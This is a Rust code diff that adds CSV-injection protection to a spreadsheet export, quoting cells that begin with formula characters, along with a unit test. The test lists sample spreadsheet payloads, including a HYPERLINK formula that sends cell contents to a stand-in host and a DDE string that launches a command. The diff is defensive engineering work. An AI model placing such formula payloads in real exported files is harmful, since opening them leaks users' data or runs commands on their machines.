@@ -305,6 +305,27 @@ fn xlsx_safe(text: &str) -> std::borrow::Cow<'_, str> {
     }
 }
 
+/// A text cell a spreadsheet program would run as a formula (`=`, `+`, `-`, `@`, a tab or a
+/// carriage return first: `=HYPERLINK(…)` typed as an address or a report) gets a leading `'`,
+/// as OWASP's "CSV injection" advice has it, so it shows as the text it is. A plain number
+/// such as `+8613900000000` cannot be a formula and is left as it is, so the buyer sheet
+/// still re-imports unchanged.
+fn csv_safe(text: &str) -> std::borrow::Cow<'_, str> {
+    let risky = text.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    let number = {
+        let digits = text.strip_prefix(['+', '-']).unwrap_or(text);
+        digits.starts_with(|c: char| c.is_ascii_digit())
+            && digits
+                .chars()
+                .all(|c| c.is_ascii_digit() || c == ' ' || c == '.')
+    };
+    if risky && !number {
+        std::borrow::Cow::Owned(format!("'{text}"))
+    } else {
+        std::borrow::Cow::Borrowed(text)
+    }
+}
+
 /// One table as CSV (UTF-8 with a byte-order mark, so spreadsheet programs read Chinese right).
 pub fn to_csv(table: &Table) -> Result<Vec<u8>, ExportError> {
     let mut out = "\u{feff}".as_bytes().to_vec();
@@ -313,7 +334,7 @@ pub fn to_csv(table: &Table) -> Result<Vec<u8>, ExportError> {
         writer.write_record(&table.header)?;
         for row in &table.rows {
             writer.write_record(row.iter().map(|cell| match cell {
-                Cell::Text(text) => text.clone(),
+                Cell::Text(text) => csv_safe(text).into_owned(),
                 Cell::Number(n) => n.to_string(),
                 Cell::Empty => String::new(),
             }))?;
@@ -321,4 +342,52 @@ pub fn to_csv(table: &Table) -> Result<Vec<u8>, ExportError> {
         writer.flush().map_err(csv::Error::from)?;
     }
     Ok(out)
+}
+
+#[cfg(test)]
+mod csv_tests {
+    use super::*;
+
+    fn cells(bytes: &[u8]) -> Vec<String> {
+        let text = String::from_utf8(bytes.to_vec()).unwrap();
+        let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+        reader
+            .records()
+            .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
+            .collect()
+    }
+
+    #[test]
+    fn csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised() {
+        let hostile = [
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+            "+1+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(A1:A9)",
+            "\t=1+1",
+            "\r=1+1",
+        ];
+        let table = Table {
+            name: "buyers",
+            header: vec!["mailing_address"],
+            rows: hostile
+                .iter()
+                .map(|t| vec![Cell::Text(t.to_string())])
+                .chain([
+                    vec![Cell::Text("+8613900000000".into())],
+                    vec![Cell::Text("海港路 8 号".into())],
+                    vec![Cell::Number(-3.0)],
+                ])
+                .collect(),
+        };
+        let out = cells(&to_csv(&table).unwrap());
+        for (cell, original) in out.iter().zip(hostile) {
+            assert_eq!(cell, &format!("'{original}"), "{original:?}");
+        }
+        assert_eq!(
+            &out[hostile.len()..],
+            ["+8613900000000", "海港路 8 号", "-3"],
+            "numbers and plain text are left as they are"
+        );
+    }
 }
